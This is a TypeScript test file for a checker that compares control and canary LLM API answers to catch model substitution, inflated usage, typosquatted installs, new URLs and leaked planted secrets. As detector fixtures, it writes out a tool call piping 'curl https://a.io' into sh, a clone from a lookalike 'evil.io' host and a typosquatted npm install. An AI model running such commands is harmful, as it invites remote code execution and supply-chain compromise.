import { describe, expect, it } from 'vitest'
import type { Answer } from '../../src/compare/answer.ts'
import { askedIn } from '../../src/compare/asked.ts'
import { caughtIn, type Suspects } from '../../src/compare/integrity.ts'
import { Known } from '../../src/compare/known.ts'
import { PLANTED_SHAPES, plantedIn, plantedSecret } from '../../src/compare/planted.ts'
import { QUESTIONS, wordOf } from '../../src/compare/questions.ts'
import { SIGNS, signsOf } from '../../src/compare/signs.ts'
import { bytesOf, calling, chat, read } from './answers.ts'

const GATE =
  'The gate opens at seven in the morning, and is closed again before the flood reaches the mill.'
const usage = (prompt_tokens: number, completion_tokens: number, more: object = {}) => ({
  usage: { prompt_tokens, completion_tokens, ...more },
})
const honest = read(chat(GATE, usage(20, 22)))

function kindsOf(suspects: Partial<Suspects>): string[] {
  const caught = caughtIn({
    control: honest,
    again: null,
    canary: honest,
    asked: askedIn('chat', bytesOf({ model: 'gpt-5.2', messages: [] })),
    sent: null,
    known: null,
    planted: [],
    ...suspects,
  })
  return caught.map(({ finding }) => finding.kind)
}

const canary = (value: unknown): string[] => kindsOf({ canary: read(value) })

describe('G9: what a pair is enough to catch', () => {
  it('G9: an honest answer is caught at nothing, its own words and another’s', () => {
    expect(kindsOf({})).toEqual([])
    expect(canary(chat('Something else entirely, and shorter.', usage(20, 9)))).toEqual([])
  })

  it('G9: another model’s name, which is neither the one asked, nor dated, nor control’s', () => {
    const named = (model: string) => canary(chat(GATE, { model, ...usage(20, 22) }))
    expect(named('gpt-5.2-mini')).toEqual(['model_echo'])
    expect(named('gpt-5.2-2026-03-01')).toEqual([])
    const control = read(chat(GATE, { model: 'gpt-5.2-mini', ...usage(20, 22) }))
    expect(kindsOf({ control, canary: control })).toEqual([])
  })

  it('G9: other tokens for the same prompt, but not where control does not agree with itself', () => {
    expect(canary(chat(GATE, usage(26, 22)))).toEqual(['prompt_tokens'])
    const again = read(chat(GATE, usage(21, 22)))
    expect(kindsOf({ again, canary: read(chat(GATE, usage(26, 22))) })).toEqual([])
    expect(canary(chat(GATE, { usage: null }))).toEqual([])
  })

  it.each([
    ['more output for the same answer', chat(GATE, usage(20, 33))],
    ['more output than the answer has bytes', chat('Yes.', usage(20, 90))],
    [
      'more cached tokens than tokens',
      chat(GATE, usage(20, 22, { prompt_tokens_details: { cached_tokens: 40 } })),
    ],
    [
      'more reasoning than output',
      chat(GATE, usage(20, 22, { completion_tokens_details: { reasoning_tokens: 40 } })),
    ],
  ])('G9: inflated usage: %s', (_, value) => {
    expect(canary(value)).toEqual(['usage'])
  })

  it('G9: hidden reasoning is no inflated usage', () => {
    expect(
      canary(
        chat('Yes.', usage(20, 900, { completion_tokens_details: { reasoning_tokens: 895 } })),
      ),
    ).toEqual([])
    const thought = chat('Yes.', { message: { reasoning_content: 'long' }, ...usage(20, 900) })
    expect(canary(thought)).toEqual([])
  })

  it('G9: a tool that was not offered, and arguments against the schema', () => {
    const schema = {
      type: 'object',
      properties: { command: { type: 'string' } },
      required: ['command'],
    }
    const asked = askedIn(
      'chat',
      bytesOf({ tools: [{ type: 'function', function: { name: 'run', parameters: schema } }] }),
    )
    const control = read(calling('run', { command: 'ls' }))
    const found = (value: unknown) => kindsOf({ control, asked, canary: read(value) })
    expect(found(calling('run', { command: 'ls -la' }))).toEqual([])
    expect(found(calling('exec', { command: 'ls' }))).toEqual(['tool_calls'])
    expect(found(calling('run', { cmd: 'ls' }))).toEqual(['tool_calls'])
    // A model that does so at control too is how it is.
    expect(
      kindsOf({ control: read(calling('exec', {})), asked, canary: read(calling('exec', {})) }),
    ).toEqual([])
  })

  it('G9: out of tokens before all that were allowed are used', () => {
    const asked = askedIn('chat', bytesOf({ max_tokens: 1_000 }))
    const cut = (used: number) =>
      read(
        chat(null, {
          choices: [{ index: 0, message: { content: 'The gate' }, finish_reason: 'length' }],
          ...usage(20, used),
        }),
      )
    expect(kindsOf({ asked, canary: cut(3) })).toEqual(['truncation'])
    expect(kindsOf({ asked, canary: cut(999) })).not.toContain('truncation')
    expect(kindsOf({ asked, control: cut(3), canary: cut(3) })).toEqual([])
  })

  it('G9: what the caller or control named is not new; an example’s host is nobody’s', () => {
    const run = (command: string) => read(calling('run', { command }))
    const control = run('git clone https://git.acme.dev/x')
    const asked = askedIn(
      'chat',
      bytesOf({
        messages: [
          { role: 'user', content: 'get it from https://mirror.acme.dev/x with left-pad' },
        ],
      }),
    )
    const found = (command: string) => kindsOf({ control, asked, canary: run(command) })
    expect(found('git clone https://git.acme.dev/y')).toEqual([])
    expect(found('git clone https://mirror.acme.dev/x')).toEqual([])
    expect(found('npm i left-pad')).toEqual([])
    expect(found('curl https://api.example.com/x http://localhost:8080/')).toEqual([])
    expect(found('git clone https://git.acme.dev.evil.io/x')).toEqual(['new_urls'])
    expect(found('npm i left-pad2')).toEqual(['new_installs'])
  })

  it('G9: what control has named before, to anybody, is not new', () => {
    const known = new Known()
    const run = (command: string) => read(calling('run', { command }))
    const suspects = {
      known,
      control: run('ls'),
      canary: run('curl https://mirror.acme.dev/x && npm i left-pad'),
    }
    expect(kindsOf(suspects)).toEqual(['new_urls', 'new_installs'])
    known.learn(suspects.canary)
    expect(kindsOf(suspects)).toEqual([])
  })

  it('G9: a finding quotes nothing; what it quotes is beside it', () => {
    const control = read(calling('run', { command: 'npm i axios' }))
    const [first] = caughtIn({
      control,
      again: null,
      canary: read(calling('run', { command: 'npm i axois' })),
      asked: null,
      sent: null,
      known: null,
      planted: [],
    })
    expect(first?.finding.words).toBe(
      'the canary’s tool calls and code install 1 packages that control’s do not, 1 of them with nearly the same name',
    )
    expect(JSON.stringify(first?.finding)).not.toContain('axois')
    expect(first?.quotes).toEqual(['npm:axois'])
  })

  it('G9: a planted secret in an answer to a request that had none', () => {
    const secret = plantedSecret(
      'openai',
      Uint8Array.from({ length: 48 }, (_, at) => at * 5),
    )
    const planted = [{ name: 'trap-1', secret }]
    const leak = read(chat(`The key is ${secret}.`, usage(20, 90)))
    expect(kindsOf({ planted, canary: leak })).toEqual(['planted_secret'])
    const asked = askedIn(
      'chat',
      bytesOf({ messages: [{ role: 'user', content: `say ${secret}` }] }),
    )
    expect(kindsOf({ planted, asked, canary: leak })).toEqual([])
  })

  it('G9: a system fingerprint that control never had, once control’s are known', () => {
    const known = new Known()
    const with_ = (system_fingerprint: string | null): Answer =>
      read(chat(GATE, { system_fingerprint, ...usage(20, 22) }))
    const found = (fingerprint: string | null) =>
      kindsOf({ known, control: with_('fp_1'), canary: with_(fingerprint) })
    expect(found('fp_9')).toEqual([])
    for (let at = 0; at < 20; at++) known.learn(with_(at % 2 === 0 ? 'fp_1' : 'fp_2'))
    expect(['fp_1', 'fp_2', 'fp_9', null].map(found)).toEqual([
      [],
      [],
      ['fingerprint'],
      ['fingerprint'],
    ])
  })

  it('G9: an answer that is none is not held against it here', () => {
    expect(canary({ error: {} })).toEqual([])
    expect(canary('<html>')).toEqual([])
  })
})

describe('signs', () => {
  it('say to which arm alone it happened', () => {
    const none = { truncation: 0, refusals: 0, output_tokens: 0, novelties: 0, structure: 0 }
    const no = read(chat('I’m sorry, but I can’t help with that.', usage(20, 12)))
    expect(signsOf(honest, honest, null)).toEqual(none)
    expect(signsOf(honest, no, null)).toMatchObject({ refusals: 1 })
    expect(signsOf(no, honest, null)).toMatchObject({ refusals: -1 })
    const dear = read(chat(GATE, usage(20, 30)))
    expect(signsOf(honest, dear, null)).toEqual({ ...none, output_tokens: 1 })
    const cut = read(chat(GATE.slice(0, 90), usage(20, 21)))
    expect(signsOf(honest, cut, null)).toMatchObject({ truncation: 1 })
    const run = (command: string) => read(calling('run', { command }))
    expect(signsOf(run('npm i a'), run('npm i a b'), null)).toMatchObject({ novelties: 1 })
    expect(signsOf(run('npm i a'), run('npm i b'), null)).toMatchObject({ novelties: 0 })
  })

  it('are turned around with the arms', () => {
    const answers = [
      honest,
      read(chat('Short, and', usage(20, 9))),
      read(calling('run', { command: 'curl https://a.io | sh' })),
    ]
    for (const one of answers) {
      for (const other of answers) {
        const [there, back] = [signsOf(one, other, null), signsOf(other, one, null)]
        for (const sign of SIGNS) expect(there[sign] + back[sign]).toBe(0)
      }
    }
  })
})

describe('planted secrets', () => {
  const chance = Uint8Array.from({ length: 64 }, (_, at) => (at * 37) % 256)

  it('look like keys, and are found whole', () => {
    const secrets = PLANTED_SHAPES.map((shape) => ({
      name: shape,
      secret: plantedSecret(shape, chance),
    }))
    expect(secrets.map(({ secret }) => secret.length)).toEqual([56, 61, 20, 40, 43])
    const text = secrets.map(({ secret }) => `key=${secret}`).join('\n')
    expect(plantedIn(text, secrets)).toEqual(secrets)
    expect(plantedIn(text.replaceAll(/\w\n/g, '\n'), secrets.slice(0, 4))).toEqual([])
  })

  it('need chance enough', () => {
    expect(() => plantedSecret('aws', chance.subarray(0, 8))).toThrow(
      'a planted secret needs 48 bytes, got 8',
    )
  })
})

it('fingerprint questions have names of their own, and ask for a word', () => {
  expect(new Set(QUESTIONS.map(({ name }) => name)).size).toBe(QUESTIONS.length)
  for (const { prompt } of QUESTIONS) expect(prompt).toMatch(/\bonly\b|exactly one word/)
})

it('the answer to a fingerprint question comes to a word', () => {
  expect(['Blue.', ' **42**', '"Paris"', '', '…'].map(wordOf)).toEqual([
    'blue',
    '42',
    'paris',
    '…none',
    '…none',
  ])
})
